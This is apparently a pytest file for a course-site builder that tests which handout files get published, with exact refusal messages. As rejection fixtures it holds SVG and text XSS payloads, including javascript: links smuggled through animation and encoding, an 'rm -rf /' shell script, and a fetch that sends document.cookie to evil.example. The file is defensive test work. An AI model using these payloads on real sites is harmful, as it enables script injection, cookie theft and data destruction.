"""Served files by what they are (induction/load/served.py, induction/load/svg.py): what may be published byte for
byte as a handout, and what is refused, with the exact message."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from conftest import make_tree, mkdocs_build
from edits import replace_once

from induction.check.pipeline import load_and_check
from induction.load.loader import load_site
from induction.load.served import HANDOUT_LIMIT, MEDIA_LIMIT, handout_name_problem, served_problem
from induction.render import render_site

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
CASES = [  # (file name, bytes, the code, or None when it is published)
    ("a.pdf", b"%PDF-1.7\n...", None),
    ("a.PNG", b"\x89PNG\r\n\x1a\n....", None),
    ("a.jpg", b"\xff\xd8\xff\xe0....", None),
    ("a.docx", b"PK\x03\x04....", None),
    ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1....", None),
    ("a.mp4", b"\x00\x00\x00\x18ftypmp42", None),
    ("a.csv", b"name,minutes\nReview,10\n", None),
    ("a.svg", SVG % b'<circle r="4"/><use href="#c"/>', None),
    ("a.html", b"<p>hi</p>", "handout-type"),
    ("a.htm", b"<p>hi</p>", "handout-type"),
    ("a.xhtml", b"<p>hi</p>", "handout-type"),
    ("a.js", b"alert(1)", "handout-type"),
    ("a.exe", b"MZ\x90\x00", "handout-type"),
    ("a.sh", b"#!/bin/sh\nrm -rf /", "handout-type"),
    ("a.pdf.exe", b"MZ\x90\x00", "handout-type"),
    ("README", b"text", "handout-type"),
    ("a.pdf", b"<html><script>x()</script>", "handout-content"),
    ("a.png", b"GIF89a....", "handout-content"),
    ("a.txt", b"<script>x()</script>", "handout-content"),
    ("a.svg", SVG % b"<script>x()</script>", "handout-content"),
    ("a.svg", SVG % b'<rect onload="x()"/>', "handout-content"),
    ("a.svg", SVG % b"<foreignObject><p>x</p></foreignObject>", "handout-content"),
    ("a.svg", SVG % b'<a xlink:href="javascript:x()"><text>x</text></a>', "handout-content"),
    ("a.svg", SVG % b'<image href="https://tracker.example/p.png"/>', "handout-content"),
    ("a.svg", b'<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>', "handout-content"),
    ("a.svg", b"<svg><unclosed></svg>", "handout-content"),
    ("a%20b.pdf", b"%PDF-1.4", "handout-name"),
    ("a?.pdf", b"%PDF-1.4", "handout-name"),
    # SVGs that run script when clicked or opened, each of which got through before
    ("a.svg", SVG % b'<a><set attributeName="href" to="javascript:x()"/><text>x</text></a>', "handout-content"),
    (
        "a.svg",
        SVG % b'<a href="#a"><animate attributeName="href" values="#a;javascript:x()"/><text>x</text></a>',
        "handout-content",
    ),
    ("a.svg", SVG % b'<a><set attributeName="xlink:href" to="javascript:x()"/><text>x</text></a>', "handout-content"),
    ("a.svg", SVG % b'<a><set attributeName="href" to="&#x6a;avascript:x()"/><text>x</text></a>', "handout-content"),
    (
        "a.svg",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><form action="javascript:x()"><button>Go</button></form></html>',
        "handout-content",
    ),
    ("a.svg", SVG % b'<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="javascript:x()"/>', "handout-content"),
    ("a.svg", b'<?xml-stylesheet href="a.xsl" type="text/xsl"?>' + SVG % b"", "handout-content"),
    ("a.svg", SVG % b'<rect style="fill: url(https://tracker.example/p)"/>', "handout-content"),
    ("a.svg", SVG % b'<rect fill="u\\72l(https://tracker.example/p)"/>', "handout-content"),
    (
        "a.svg",
        SVG % b'<rect><animate attributeName="fill" values="red;jav&#x09;ascript:x()"/></rect>',
        "handout-content",
    ),
    (
        "a.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click"/>',
        "handout-content",
    ),
    ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><text>\u00e9</text></svg>".encode("utf-16"), "handout-content"),
    # what a diagram needs is published: shapes, text, gradients, filters, markers and animation of its look
    (
        "a.svg",
        SVG
        % (
            b'<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
            b'<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><marker id="m" refX="1">'
            b'<path d="M0 0L2 1z"/></marker></defs><style>.t { font: 12px sans-serif; }</style>'
            b'<g transform="translate(1 1)" filter="url(#f)"><rect fill="url(#g)" width="9" height="9">'
            b'<animate attributeName="opacity" values="0;1" dur="2s"/></rect><line x2="5" '
            b'marker-end="url(#m)" stroke="black"/><text class="t" aria-label="Step one">1</text>'
            b'<a href="#g"><title>Go</title><circle r="2"/></a></g>'
        ),
        None,
    ),
    ("a.ico", b"\x00\x00\x01\x00\x01\x00", "handout-type"),
    ("a.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 ", None),
    ("a.webp", b"RIFF\x10\x00\x00\x00AVI LIST", "handout-content"),
    # text is served as text: not markup, not script
    (
        "a.txt",
        b"Review the lesson (10 minutes).\nUse the form(s) and prompt(s) provided; e.g. notes.\n"
        b"Under section 175(2)(a) of the Act, stay alert, and do this. Then the document.\n",
        None,
    ),
    ("a.txt", b"(0, eval)('x')\n", "handout-content"),
    ("a.txt", b"alert(document.cookie)\n", "handout-content"),
    ("a.txt", b"fetch\n('//evil.example/?' + document.cookie)\n", "handout-content"),
    ("a.csv", b"[][(![]+[])[+[]]]\n", "handout-content"),
]


@pytest.mark.parametrize("name, data, code", CASES, ids=[f"{c[0]}-{c[2]}" for c in CASES])
def test_handouts_are_published_only_by_type_and_content(tmp_path, name, data, code):
    path = tmp_path / name
    path.write_bytes(data)
    found = handout_name_problem(f"assets/{name}") or served_problem(str(path), f"assets/{name}")
    assert (found[0] if found else None) == code


@pytest.mark.build
@pytest.mark.parametrize("folder", ["videos/intro", "year-1/b1/week-1/print", "year-1/b1/mentor-pack"])
def test_a_handout_inside_a_generated_pages_folder_is_published(tmp_path, folder):
    tree = make_tree(tmp_path)
    (tree / "prog" / folder).mkdir(parents=True)
    (tree / "prog" / "assets" / "sheet.pdf").rename(tree / "prog" / folder / "sheet.pdf")
    replace_once(tree / "prog" / "assets.yaml", "file: assets/sheet.pdf", f"file: {folder}/sheet.pdf")
    result = mkdocs_build(tree, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "site" / "prog" / folder / "sheet.pdf").is_file()


MESSAGES = [  # (file name, bytes, the exact message)
    (
        "map.svg",
        SVG % b'<a><set attributeName="href" to="javascript:x()"/><text>Go</text></a>',
        "The SVG handout 'assets/map.svg' has a <set> that animates 'href'; an animation may change how a diagram "
        "looks, never a link, a style sheet or an event handler (line 1 of the file).",
    ),
    (
        "map.svg",
        SVG % b'<a href="#a">\n<animate attributeName="href" values="#a;javascript:x()"/></a>',
        "The SVG handout 'assets/map.svg' has an <animate> that animates 'href'; an animation may change how a "
        "diagram looks, never a link, a style sheet or an event handler (line 2 of the file).",
    ),
    (
        "map.svg",
        SVG % b'<a><set attributeName="xlink:href" to="#a"/><text>Go</text></a>',
        "The SVG handout 'assets/map.svg' has a <set> that animates 'xlink:href'; an animation may change how a "
        "diagram looks, never a link, a style sheet or an event handler (line 1 of the file).",
    ),
    (
        "map.svg",
        SVG % b'<rect><animate attributeName="fill" values="red;javascript:x()"/></rect>',
        "The SVG handout 'assets/map.svg' has a 'values' attribute holding a javascript: address, which can run code "
        "(line 1 of the file).",
    ),
    (
        "map.svg",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><form action="javascript:x()"><button>Go</button></form></html>',
        "The SVG handout 'assets/map.svg' is not SVG: its root element is <html> of 'http://www.w3.org/1999/xhtml', "
        "not <svg> of 'http://www.w3.org/2000/svg' (line 1 of the file).",
    ),
    (
        "map.svg",
        b'<?xml version="1.0"?>\n<?xml-stylesheet href="a.xsl" type="text/xsl"?>\n' + SVG % b"",
        "The SVG handout 'assets/map.svg' holds a processing instruction (<?xml-stylesheet), which can restyle or "
        "transform the file (line 2 of the file).",
    ),
    (
        "map.svg",
        SVG % b"\n\n<script>x()</script>",
        "The SVG handout 'assets/map.svg' holds a <script> element, which can run code or load another file "
        "(line 3 of the file).",
    ),
    (
        "map.svg",
        SVG % b'<use href="other.svg#a"/>',
        "The SVG handout 'assets/map.svg' has a 'href' attribute leading out of the file ('other.svg#a'); only links "
        "to a part of the file (#id) are published (line 1 of the file).",
    ),
    (
        "notes.txt",
        b"Notes.\nalert(document.cookie)\n",
        "The handout 'assets/notes.txt' reads as JavaScript on its line 2 ('alert('), which a browser could run.",
    ),
    (
        "notes.txt",
        b"Notes <b>here</b>\n",
        "The handout 'assets/notes.txt' holds markup ('<b' on its line 1), which a browser could run.",
    ),
]


@pytest.mark.parametrize("name, data, message", MESSAGES, ids=[m[2][25:60] for m in MESSAGES])
def test_a_refused_handout_says_exactly_what_and_where(tmp_path, name, data, message):
    (tmp_path / name).write_bytes(data)
    assert served_problem(str(tmp_path / name), f"assets/{name}") == ("handout-content", message)


@pytest.mark.parametrize(
    ("name", "size", "message"),
    [
        (
            "big.pdf",
            HANDOUT_LIMIT + 1,
            "The handout 'assets/big.pdf' is 20,000,001 bytes; the site serves a handout of at most 20,000,000 bytes.",
        ),
        (
            "big.mp4",
            MEDIA_LIMIT + 1,
            "The handout 'assets/big.mp4' is 100,000,001 bytes; the site serves audio and "
            "video of at most 100,000,000 bytes.",
        ),
    ],
)
def test_an_oversized_handout_is_refused_by_its_size_before_it_is_read(tmp_path, name, size, message):
    path = tmp_path / name
    with open(path, "wb") as handle:  # sparse: the size is what is judged, and nothing is read
        handle.truncate(size)
    assert served_problem(str(path), f"assets/{name}") == ("served-too-large", message)
    with open(path, "wb") as handle:
        handle.truncate(size - 1)
    assert served_problem(str(path), f"assets/{name}")[0] == "handout-content"  # within the limit: read, judged


def test_an_oversized_handout_is_reported_at_its_line_in_assets_yaml(tree):
    with open(tree / "prog" / "assets" / "sheet.pdf", "r+b") as handle:
        handle.truncate(HANDOUT_LIMIT + 1)
    assert [p.format() for p in load_site(str(tree))[1]] == [
        "minimal/prog/assets.yaml:4: error [served-too-large] The handout 'assets/sheet.pdf' is 20,000,001 bytes; "
        "the site serves a handout of at most 20,000,000 bytes. Compress it or split it (a PDF exported for screen, "
        "a shorter clip), or link to where it is hosted."
    ]


@pytest.mark.parametrize("name", ["my sheet (v2).pdf", 'a"b.pdf', "a<b>.pdf", "a]b).pdf"])
def test_a_handout_name_that_would_break_a_link_is_published_percent_encoded(tmp_path, name):
    tree = make_tree(tmp_path)
    (tree / "prog" / "assets" / "sheet.pdf").rename(tree / "prog" / "assets" / name)
    quoted = name.replace('"', '\\"')
    replace_once(tree / "prog" / "assets.yaml", "file: assets/sheet.pdf", f'file: "assets/{quoted}"')
    checked = load_and_check(str(tree))
    assert checked.ok, checked.report()
    page = {p.src: p.markdown for p in render_site(checked)}["prog/year-1/b1/b1-w1-read.md"]
    assert f"(../../assets/{quote(name)})" in page
    assert name not in page


@pytest.mark.build
def test_a_handout_with_quotes_and_brackets_in_its_name_is_linked_by_its_encoded_address(tmp_path):
    tree = make_tree(tmp_path)
    name = 'my sheet (v2) "final" <b>.pdf'
    (tree / "prog" / "assets" / "sheet.pdf").rename(tree / "prog" / "assets" / name)
    replace_once(tree / "prog" / "assets.yaml", "file: assets/sheet.pdf", "file: 'assets/" + name + "'")
    result = mkdocs_build(tree, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "site" / "prog" / "assets" / name).is_file()
    html = (tmp_path / "site" / "prog" / "year-1" / "b1" / "b1-w1-read" / "index.html").read_text(encoding="utf-8")
    assert f'href="../../../assets/{quote(name)}"' in html
    assert name not in html
